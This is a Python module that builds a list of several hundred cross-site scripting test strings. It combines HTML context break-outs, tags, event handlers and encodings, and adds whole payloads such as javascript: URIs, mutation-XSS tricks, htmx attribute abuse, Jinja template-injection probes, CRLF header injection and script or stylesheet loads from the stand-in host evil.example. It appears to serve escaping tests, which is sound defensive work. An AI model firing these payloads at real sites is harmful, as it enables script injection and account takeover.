"""Texts that run a script where a page forgets to escape them, or escapes them for another place."""

from __future__ import annotations

import html
import itertools
from urllib.parse import quote

MARK = "window.__pwned=(window.__pwned||0)+1"
ELSEWHERE = "http://evil.example/"

TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe srcdoc=x",
    "object data=x", "math", "marquee", "select autofocus", "textarea autofocus", "style", "link rel=stylesheet href=x",
    "form", "a href=x", "base href=x", "meta http-equiv=refresh content=0", "embed src=x", "xss tabindex=1",
)  # fmt: skip
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onmouseover",
    "onanimationstart",
    "onpointerrawupdate",
    "onpageshow",
    "onstart",
)
BREAKS = (
    "",
    '">',
    "'>",
    "</td></tr></table>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "`>",
    '" ',
    "' ",
)
"""How a text leaves the place where it stands."""

WHOLE = (
    f"<script>{MARK}</script>",
    f"<script src={ELSEWHERE}x.js></script>",
    f"<ScRiPt >{MARK}</sCrIpT >",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}//",
    f"java\tscript:{MARK}",
    f"java\nscript:{MARK}",
    f"\x01javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    f"<a href='javascript:{MARK}'>click</a>",
    f"<a href='&#106;avascript:{MARK}'>click</a>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><a xlink:href='javascript:{MARK}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={MARK} />#x'>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={MARK}>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<template><img src=x onerror={MARK}></template>",
    f"<iframe src='javascript:{MARK}'></iframe>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<img src={ELSEWHERE}pixel.png>",
    f"<link rel=stylesheet href={ELSEWHERE}x.css>",
    f"<style>@import '{ELSEWHERE}x.css';</style>",
    f"<div style='background:url({ELSEWHERE}x.png)'>x</div>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><button autofocus>x</button></form>",
    f"<div hx-get={ELSEWHERE} hx-trigger=load>x</div>",
    f"<div hx-on:load='{MARK}' hx-on::load='{MARK}'>x</div>",
    f"<div hx-get=/static/viewer.css hx-trigger='load[{MARK}]' hx-vals='js:{{a: {MARK}}}'>x</div>",
    f"<div data-hx-get=/runs data-hx-trigger=load data-hx-on-htmx-load='{MARK}'>x</div>",
    f"<div sse-connect={ELSEWHERE} hx-ext=sse>x</div>",
    f"<body hx-headers='js:{{a:{MARK}}}'>",
    f"{{{{ {MARK} }}}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{MARK}}}",
    f"#{{{MARK}}}",
    f"';{MARK};//",
    f'";{MARK};//',
    f"\\';{MARK};//",
    f"</script><script>{MARK}</script>",
    f"<!--<script>{MARK}//-->",
    f"\u2028{MARK}\u2029",
    f"\ufeff<script>{MARK}</script>",
    f"<\x00script>{MARK}</\x00script>",
    f"\u202e>tpircs/<{MARK}>tpircs<\u202c",
    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"\nevent: part\ndata: <img src=x onerror={MARK}>\n\n",
    f"\r\n\r\n<script>{MARK}</script>",
    f"{ELSEWHERE}%0d%0aSet-Cookie:x=1",
    f"\ud800<img src=x onerror={MARK}>",
)
ENCODINGS = (
    lambda text: text,
    html.escape,
    lambda text: quote(text, safe=""),
    lambda text: "".join(f"&#x{ord(char):x};" for char in text),
    lambda text: "".join(f"\\u{ord(char):04x}" for char in text),
    lambda text: text.upper().replace(MARK.upper(), MARK),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "/"),
)


def payloads() -> list[str]:
    """Every way out of a place, with tags and events in turn, each in several encodings. At least 500, all different."""
    handlers = [f"{event}={MARK}" for event in EVENTS]
    tagged = [
        f"{way_out}<{tag} {handler}>"
        for (way_out, tag), handler in zip(itertools.product(BREAKS, TAGS), itertools.cycle(handlers), strict=False)
    ]
    attributes = [f"{quoted}{handler} x={quoted}" for quoted in ('"', "'", "` ", " ") for handler in handlers]
    plain = [*WHOLE, *tagged, *attributes]
    encoded = [encode(text) for encode in ENCODINGS[1:] for text in plain[::9] if text.isprintable()]
    return [*dict.fromkeys([*plain, *encoded])]
